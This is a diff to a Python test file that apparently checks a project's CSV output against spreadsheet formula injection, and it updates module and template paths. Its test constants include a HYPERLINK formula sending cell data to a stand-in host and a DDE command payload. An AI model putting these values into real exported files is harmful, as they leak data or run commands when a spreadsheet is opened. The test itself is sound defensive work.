@@ -11,18 +11,18 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from probcal.csv_text import as_it_was, csv_text, data_text
-from probcal.store import CellResult, Store
+from probcal._io import as_it_was, csv_text, data_text
+from probcal.store.folder import CellResult, Store
 from tests.commands import probcal
 
 ROOT = Path(__file__).parents[1]
 WRITERS = {"writer", "DictWriter", "to_csv", "savetxt"}
 """Names of what writes delimited text: in csv, pandas and numpy."""
 OTHERS = {
-    "probcal/csv_text.py": "is that place",
+    "probcal/_io.py": "is that place",
     "benchmarks/weka_command_line.py": "writes the rows of an ARFF file for Weka's own command line",
 }
-OF_DATA = {"probcal/own_table/card_text.py": "writes rows of data, from which the very values are read again"}
+OF_DATA = {"probcal/try_table/experiment_files.py": "writes rows of data, from which the very values are read again"}
 FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
 LABELS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\uff1d1"]
 
@@ -47,7 +47,10 @@ def test_nothing_else_writes_csv():
 
 
 def test_no_script_of_a_page_offers_csv():
-    pages = [*(ROOT / "probcal/report/templates").rglob("*"), *(ROOT / "probcal/report/assets").glob("*.js")]
+    pages = [
+        *(ROOT / "probcal/reporting/html/templates").rglob("*"),
+        *(ROOT / "probcal/reporting/html/assets").glob("*.js"),
+    ]
     assert pages and not [path for path in pages if path.is_file() and "text/csv" in path.read_text(encoding="utf-8")]
 
 
